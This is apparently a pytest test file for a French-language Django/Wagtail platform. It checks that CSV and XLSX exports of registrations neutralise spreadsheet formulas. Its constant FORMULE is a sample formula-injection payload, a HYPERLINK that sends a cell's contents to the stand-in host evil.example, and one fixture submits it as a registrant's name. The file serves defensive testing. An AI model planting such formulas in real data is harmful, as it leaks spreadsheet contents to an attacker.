"""Formula injection: what the platform exports never runs as a spreadsheet formula."""
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cpro_platform.home.cms import EDITEURS, autoriser_snippets
from cpro_platform.tableurs import ExportNeutralise, neutraliser
from tests import factories as f
from tests.training_site.conftest import EspaceFormation
from training_site.models import Inscription

FORMULE = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")'


@pytest.mark.parametrize("valeur", [FORMULE, "+33 6 12 34 56 78", "-2+3", "@SUM(A1)",
                                    "\t=1+1", "\r=1+1", "=", "-"])
def test_strings_a_spreadsheet_would_evaluate_get_an_apostrophe(valeur):
    assert neutraliser(valeur) == "'" + valeur


@pytest.mark.parametrize("valeur", ["Camille Martin", "", " =1+1", "a=b", "'=déjà",
                                    "1er", "é=mc²"])
def test_plain_strings_are_untouched(valeur):
    assert neutraliser(valeur) == valeur


@pytest.mark.parametrize("valeur", [-3, 2.5, Decimal("-1.5"), datetime.date(2024, 1, 2),
                                    datetime.datetime(2024, 1, 2, 3, 4), None, True])
def test_numbers_and_dates_keep_their_type(valeur):
    assert neutraliser(valeur) is valeur


def test_every_admin_export_neutralises_its_values():
    """A viewset of the project that exports (``list_export``) uses ``ExportNeutralise``."""
    from wagtail.admin.viewsets import viewsets
    from wagtail.admin.viewsets.base import ViewSet

    exports = [vs for vs in viewsets.viewsets
               if getattr(vs, "list_export", ViewSet.UNDEFINED) not in (ViewSet.UNDEFINED, [])
               and not type(vs).__module__.startswith("wagtail.")]
    assert exports, "no export found: the registry lookup is broken"
    for viewset in exports:
        assert issubclass(viewset.index_view_class, ExportNeutralise), viewset


@pytest.fixture
def editrice(db, client):
    """An editor of the CMS ("Éditeurs"), with the rights the demo gives on registrations."""
    from django.contrib.auth.models import Group

    autoriser_snippets(Inscription, actions=("view", "change"))
    user = f.personne("editrice.export")
    user.groups.add(Group.objects.get(name=EDITEURS))
    client.force_login(user)
    return client


@pytest.fixture
def inscription_piegee(db, client):
    """A visitor registers through the public form with a formula as their name."""
    webinaire = EspaceFormation().webinaire(capacite=10)
    response = client.post(webinaire.url + "inscription/", {"email": "x@evil.example",
                                                            "nom": FORMULE})
    assert response.status_code == 200
    assert Inscription.objects.get().nom == FORMULE  # stored as typed: only exports change it
    client.logout()
    return webinaire


def _export(client, format: str):
    url = reverse("wagtailsnippets_training_site_inscription:list") + f"?export={format}"
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_cms_csv_export_of_registrations(inscription_piegee, editrice):
    lignes = list(csv.DictReader(io.StringIO(_export(editrice, "csv").decode("utf-8"))))
    [ligne] = lignes
    assert ligne["Nom"] == "'" + FORMULE
    assert ligne["Adresse électronique"] == "x@evil.example"


def test_cms_xlsx_export_of_registrations(inscription_piegee, editrice):
    feuille = load_workbook(io.BytesIO(_export(editrice, "xlsx"))).active
    entetes, valeurs = [c.value for c in feuille[1]], [c.value for c in feuille[2]]
    cellule = feuille.cell(row=2, column=entetes.index("Nom") + 1)
    assert cellule.value == "'" + FORMULE and cellule.data_type == "s"
    assert isinstance(valeurs[entetes.index("Inscrit le")], datetime.datetime)  # still a date
